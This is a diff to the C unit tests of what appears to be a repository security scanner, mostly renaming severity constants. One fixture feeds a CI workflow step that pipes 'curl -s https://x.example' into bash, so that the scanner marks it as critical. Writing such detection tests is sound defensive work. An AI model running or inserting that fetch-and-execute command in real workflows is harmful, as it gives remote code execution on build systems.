@@ -287,21 +287,21 @@ START_TEST(autorun_with_dangerous_content_is_critical)
 	const struct finding *f;
 
 	scan_str(".github/workflows/ci.yml", "on: push\n", &fl);
-	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, SEV_MEDIUM);
+	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, AL_SEV_MEDIUM);
 	finding_list_free(&fl);
 	scan_str(".github/workflows/ci.yml", "on: push\nsteps:\n"
 	    "  - run: curl -s https://x.example | bash\n", &fl);
 	f = tu_first(&fl, "workflow");
 	ck_assert_ptr_nonnull(f);
-	ck_assert_int_eq(f->severity, SEV_CRITICAL);
+	ck_assert_int_eq(f->severity, AL_SEV_CRITICAL);
 	ck_assert_str_eq(f->excerpt, "runs automatically and contains curl-sh "
 	    "(critical) at line 3");
 	/* The rule itself keeps its own severity for other files. */
-	ck_assert_int_eq(f->rule->severity, SEV_MEDIUM);
+	ck_assert_int_eq(f->rule->severity, AL_SEV_MEDIUM);
 	finding_list_free(&fl);
 	/* A secret in a workflow is not "reaching the network". */
 	scan_str(".github/workflows/ci.yml", "env:\n  T: " TOKEN "\n", &fl);
-	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, SEV_MEDIUM);
+	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, AL_SEV_MEDIUM);
 	finding_list_free(&fl);
 }
 END_TEST
@@ -457,7 +457,7 @@ START_TEST(finding_cap_is_unscannable)
 	ck_assert_uint_eq(tu_count(&fl, AL_RULE_UNSCANNABLE), 1);
 	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), AL_MAX_FINDINGS_PER_FILE);
 	ck_assert_int_eq(tu_first(&fl, AL_RULE_UNSCANNABLE)->severity,
-	    SEV_HIGH);
+	    AL_SEV_HIGH);
 	finding_list_free(&fl);
 	free(buf);
 }
@@ -608,7 +608,7 @@ START_TEST(long_encoded_text_is_context)
 	tu_scan(&sc, "a.txt", b.data, b.len, &fl);
 	f = tu_first(&fl, AL_RULE_ENCODED_TEXT);
 	ck_assert_ptr_nonnull(f);
-	ck_assert_int_eq(f->severity, SEV_LOW);
+	ck_assert_int_eq(f->severity, AL_SEV_LOW);
 	ck_assert_uint_eq(f->line, 1);
 	ck_assert_uint_eq(f->column, 6);
 	ck_assert_uint_eq(fl.n, 1);
